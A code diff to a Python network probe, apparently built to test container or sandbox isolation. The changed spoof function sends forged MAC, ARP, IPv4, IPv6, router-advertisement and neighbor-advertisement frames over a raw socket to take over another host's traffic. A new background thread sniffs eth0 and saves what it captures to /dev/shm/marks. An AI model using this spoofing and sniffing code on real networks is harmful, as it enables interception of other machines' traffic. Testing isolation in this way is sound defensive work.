@@ -21,6 +21,7 @@ import socket
 import struct
 import subprocess
 import sys
+import threading
 import time
 import typing as t
 import urllib.parse
@@ -41,12 +42,13 @@ SETTINGS = (
 CALLS = """add_key bpf fsopen init_module io_uring_setup keyctl mount mount_setattr move_mount open_by_handle_at open_tree
 perf_event_open pivot_root process_vm_readv ptrace reboot setns settimeofday swapon umount2 unshare userfaultfd"""
 KINDS = {
-    "mac": "another's MAC address",
     "arp": "an ARP answer for another's address",
     "ip": "another's IPv4 address",
     "ip6": "another's IPv6 address",
     "ra": "a router advertisement",
     "na": "a neighbor advertisement for another's address",
+    # The last one: if it works, what is for the other comes here from then on.
+    "mac": "another's MAC address",
 }
 KEXEC_LOAD = 246
 SOCKET = 41
@@ -286,13 +288,25 @@ def spoof(query: str) -> str:
     own, gate, peer = (tuple(wanted[name]) for name in ("own", "gate", "peer"))
     with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sender:
         sender.bind(("eth0", 0))
-        for _repeat in range(3):
-            for kind in ("own", *KINDS):
-                sender.send(frames(kind, own, gate, peer))
+        for kind in ("own", *KINDS):
+            for _repeat in range(3):
                 sender.send(frames(kind, own, peer, gate))
+                sender.send(frames(kind, own, gate, peer))
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as polite:
         polite.sendto(b"mark:routed:", (peer[1], 9999))
     return "sent"
+
+
+def begin_watching(query: str) -> str:
+    """Watch while others are asked. What was seen is kept in a file: an attack that works would cut off an answer."""
+
+    def keep() -> None:
+        marks = json.dumps(watch("eth0", float(query)))
+        with open("/dev/shm/marks", "w", encoding="ascii") as stream:
+            stream.write(marks)
+
+    threading.Thread(target=keep).start()
+    return "watching"
 
 
 def tables() -> str:
@@ -319,8 +333,7 @@ DEEDS: dict[str, t.Callable[[str], str]] = {
     "/packet": lambda _query: probe.open_socket(17, socket.SOCK_RAW),
     "/since": lambda _query: probe.read("/proc/1/stat").rpartition(")")[2].split()[19],
     "/spoof": spoof,
-    "/tables": lambda _query: tables(),
-    "/watch": lambda query: json.dumps(watch("eth0", float(query))),
+    "/watch": begin_watching,
 }
 
 
